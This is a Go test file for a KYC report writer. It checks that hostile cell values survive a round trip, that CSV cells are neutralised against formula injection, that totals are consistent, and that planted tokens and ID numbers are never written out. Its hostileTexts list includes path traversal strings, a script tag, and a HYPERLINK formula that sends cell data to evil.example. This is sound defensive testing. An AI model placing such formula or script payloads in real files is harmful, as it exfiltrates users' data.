package report

import (
	"encoding/csv"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"kycbatch/campaign"
	"kycbatch/internal/intake"
)

// hostileTexts are cells and owners that somebody may have put into a file.
func hostileTexts() []string {
	return []string{
		"../../etc", "..\\..\\x", "=1+1", "+91 98", "-1", "@SUM(A1)", "\tx", "\nx", "\rx", "＝1+1", "＋1", "－1", "＠x", "'=1", "''=1", "'plain",
		"a\x00b", "🦊", strings.Repeat("long ", 40), "Asha Rao", "asha-rao", "ASHA RAO", "CON", "nul", "com1", "summary", "Index", "report", "all", "no-owner", "No Owner",
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `a"b`, "a,b;c", "a\r\nb", "a\rb", "\ufeffx", "a\u202eb", "<script>alert(1)</script>", "&amp;", "]]>",
		"_x000D_", "0012345", "1.23457E+15", "2026-03-15", "TRUE", "12", " padded ", "e\u0301", "é", "\u200b", "",
	}
}

// TestHostileOwnersAndCells writes a report over every pair of a hostile owner and a hostile cell, and reads each of its files back,
// with the reader of our own input: what comes out is what went in, and every row is in exactly one file.
func TestHostileOwnersAndCells(t *testing.T) {
	b := newBooks("spring")
	all := hostileTexts()
	for i := range 3 * len(all) {
		b.add("spring", func(r *campaign.Result) {
			r.Row.Cells[2], r.Row.Cells[3] = all[i%len(all)], all[(i*7+i/len(all))%len(all)]
			r.Record.Reason = all[(i*5)%len(all)]
		})
	}
	dir := filepath.Join(t.TempDir(), "report")
	w, err := write(t.Context(), Config{Campaigns: b.campaigns, Dir: dir, Formats: []Format{CSV, XLSX}}, b)
	require.NoError(t, err)
	require.Equal(t, w.Files, namesIn(t, dir))
	owners := map[string]bool{}
	for _, res := range b.results["spring"] {
		owners[hostileCell(res, 2)] = true
	}
	require.Greater(t, len(owners), 40)
	require.False(t, owners["\u200b"] || owners[" padded "] || owners["\ufeffx"], "what can't be seen around a name is no part of it")
	require.Len(t, w.Owners, len(owners), "owners that differ by nothing but what is around them are one")

	for _, format := range []Format{CSV, XLSX} {
		lines := map[int]bool{}
		for _, o := range w.Owners {
			for _, name := range o.Files {
				if kind(name) != format {
					continue
				}
				require.Equal(t, name, filepath.Base(name))
				n := 0
				for cells := range readBack(t, w.Path(name)) {
					line, err := strconv.Atoi(cells["line"])
					require.NoError(t, err)
					require.False(t, lines[line], "line %d is in two files", line)
					lines[line] = true
					n++
					res := b.results["spring"][line-2]
					require.Equal(t, o.Name, hostileCell(res, 2))
					require.Equal(t, plain(hostileCell(res, 2), format), cells["owner"], name)
					require.Equal(t, plain(hostileCell(res, 3), format), cells["customer reference"], "%s, line %d", name, line)
					require.Equal(t, plain(res.Record.Reason, format), cells["problem"], "%s, line %d", name, line)
				}
				require.Equal(t, o.Counts.Rows, n, name)
			}
		}
		require.Len(t, lines, len(b.results["spring"]), format)
	}
	index := records(t, w.Path("index.csv"))
	require.Len(t, index, len(w.Owners)+1)
	for i, o := range w.Owners {
		require.Equal(t, plain(label(o.Name), CSV), intake.Restore(index[i+1][0]))
		require.Equal(t, o.Files, index[i+1][3:])
	}
}

func hostileCell(res campaign.Result, at int) string {
	return source{width: len(res.Row.Cells)}.cell(res.Row, at)
}

// plain is a text as it comes back from a file: NUL and the like are replaced, and a reader of CSV takes CR LF for one line break.
func plain(text string, of Format) string {
	if of == CSV {
		text = strings.ReplaceAll(text, "\r\n", "\n")
	}
	return printable(text)
}

// readBack reads a file of a report with package intake, and yields its cells by their columns.
func readBack(t *testing.T, path string) func(func(map[string]string) bool) {
	t.Helper()
	f, err := intake.Open(t.Context(), path, intake.Options{Map: map[string]string{"email": "e-mail (masked)"}})
	require.NoError(t, err, path)
	require.NotContains(t, f.Header, "kyc_type", "the column by which intake knows that the file is one of ours")
	return func(yield func(map[string]string) bool) {
		for row, err := range f.All(t.Context()) {
			require.NoError(t, err)
			cells := map[string]string{}
			for i, h := range f.Header {
				cells[h] = row.Cells[i]
			}
			if !yield(cells) {
				return
			}
		}
	}
}

// records reads a CSV of a report as a spreadsheet would.
func records(t *testing.T, path string) [][]string {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(contentOf(t, path), "\ufeff"))).ReadAll()
	require.NoError(t, err)
	return all
}

// TestNoCellIsAFormula looks at the bytes: no cell of any CSV begins as a formula would, but in those for machines.
func TestNoCellIsAFormula(t *testing.T) {
	b := newBooks("spring")
	for i, text := range hostileTexts() {
		b.add("spring", func(r *campaign.Result) {
			r.Row.Cells[2], r.Row.Cells[3], r.Row.Account = text, text, "="+strconv.Itoa(i)
		})
	}
	for _, raw := range []bool{false, true} {
		dir := filepath.Join(t.TempDir(), "report")
		w, err := write(t.Context(), Config{Campaigns: b.campaigns, Dir: dir, Formats: []Format{CSV}, RawCSV: raw}, b)
		require.NoError(t, err)
		formulas := 0
		for _, name := range w.Files {
			if kind(name) != CSV {
				continue
			}
			text := contentOf(t, w.Path(name))
			require.Equal(t, !raw, strings.HasPrefix(text, "\ufeff"), name)
			require.Equal(t, !raw, strings.HasSuffix(text, "\r\n"), name)
			for _, record := range records(t, w.Path(name)) {
				for _, c := range record {
					if c != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(c)[0]) {
						formulas++
					}
				}
			}
		}
		require.Equal(t, raw, formulas > 0, "%d cells that a spreadsheet would run", formulas)
	}
}

// TestTotalsEqualTheRows is the law over random ledgers: whatever their rows are, each is in one file, the counts of the owners add up to
// the total, and the total to the rows that came in.
func TestTotalsEqualTheRows(t *testing.T) {
	kinds := everyKind().results["spring"]
	owners := []string{"", "Asha", "asha", "Vikram", "=x"}
	for seed := range uint64(30) {
		draw := rand.New(rand.NewPCG(seed, 4))
		b, want := newBooks("spring"), map[string]int{}
		for range draw.IntN(200) {
			b.add("spring", func(r *campaign.Result) {
				from := kinds[draw.IntN(len(kinds))]
				r.Outcome, r.Record, r.Row.Problem, r.Row.DuplicateOf = from.Outcome, from.Record, from.Row.Problem, from.Row.DuplicateOf
				r.Row.Cells[2] = owners[draw.IntN(len(owners))]
				want[r.Row.Cells[2]]++
			})
		}
		w, err := write(t.Context(), Config{Campaigns: b.campaigns, Dir: filepath.Join(t.TempDir(), "r"), Formats: []Format{CSV}, RawCSV: true}, b)
		require.NoError(t, err)
		sum, lines := map[string]int{}, 0
		for _, o := range w.Owners {
			require.Equal(t, o.Counts.Rows, disjoint(o.Counts), "seed %d", seed)
			sum[o.Name] = o.Counts.Rows
			lines += len(records(t, w.Path(o.Files[0]))) - 1
		}
		require.Equal(t, want, sum, "seed %d", seed)
		require.Equal(t, len(b.results["spring"]), lines, "seed %d", seed)
		require.Equal(t, len(b.results["spring"]), w.Total.Rows)
		require.Equal(t, w.Total.Rows, disjoint(w.Total))
		table := records(t, w.Path("summary.csv"))
		for column := 1; column < len(table[0]); column++ {
			total := 0
			for _, record := range table[1 : len(table)-1] {
				n, err := strconv.Atoi(record[column])
				require.NoError(t, err)
				total += n
			}
			require.Equal(t, strconv.Itoa(total), table[len(table)-1][column], "seed %d: %s", seed, table[0][column])
		}
	}
}

// TestNothingPlantedComesOut searches every byte of every file, workbooks unpacked: addresses come out only where somebody said so,
// tokens, PANs and Aadhaar digits never.
func TestNothingPlantedComesOut(t *testing.T) {
	b := everyKind()
	b.add("spring", func(r *campaign.Result) {
		r.Row.Cells[3] = "planted.ref@zeta.example"
		r.Row.Cells[4] = "ABCPE1234F"
		r.Record.Reason = "status 422: planted.reason@zeta.example, https://kyc.example/verify?token=kst_planted0a1b, ABCPE1234F"
		r.Record.Verified = []campaign.Fact{{Name: "pan_number", Value: "ABCPE1234F"}, {Name: "address", Value: "planted.verified@zeta.example 9942 1234 5678"},
			{Name: "name", Value: "planted name"}}
	})
	secrets := []string{"planted0a1b", "ABCPE1234F", "1234F", "9942", "5678", "planted name", "planted.verified"}
	for name, c := range map[string]struct {
		cfg  Config
		come []string // of these
	}{
		"as it is":   {Config{}, nil},
		"full":       {Config{FullEmails: true}, []string{"planted.person1@", "planted.reason@", "planted.ref@", "planted.doubt@"}},
		"facts":      {Config{Include: []string{"verified_data.pan_number", "verified_data.address"}}, nil},
		"raw":        {Config{RawCSV: true}, nil},
		"the lot":    {Config{Include: []string{"verified_data.masked_aadhaar", "verified_data.pan_number"}, RawCSV: true}, nil},
		"two owners": {Config{By: "plan"}, nil},
	} {
		c.cfg.Campaigns, c.cfg.Dir = b.campaigns, filepath.Join(t.TempDir(), "r")
		if name == "two owners" {
			c.cfg.By = "account manager" // an owner's name is what somebody made the owner's name
		}
		w, err := write(t.Context(), c.cfg, b)
		require.NoError(t, err)
		out := everything(t, w)
		for _, secret := range secrets {
			require.NotContains(t, out, secret, "%s: %s", name, secret)
		}
		for _, address := range []string{"planted.person1@", "planted.reason@", "planted.ref@", "planted.doubt@"} {
			require.Equal(t, len(c.come) > 0, strings.Contains(out, address), "%s: %s", name, address)
		}
	}
}

// everything is the text of all files of a report.
func everything(t *testing.T, w Written) string {
	t.Helper()
	var all strings.Builder
	for _, name := range w.Files {
		if kind(name) == XLSX {
			all.WriteString(unpacked(t, w.Path(name)))
			continue
		}
		f, err := os.Open(w.Path(name))
		require.NoError(t, err)
		_, err = io.Copy(&all, f)
		require.NoError(t, err)
		require.NoError(t, f.Close())
	}
	return all.String()
}
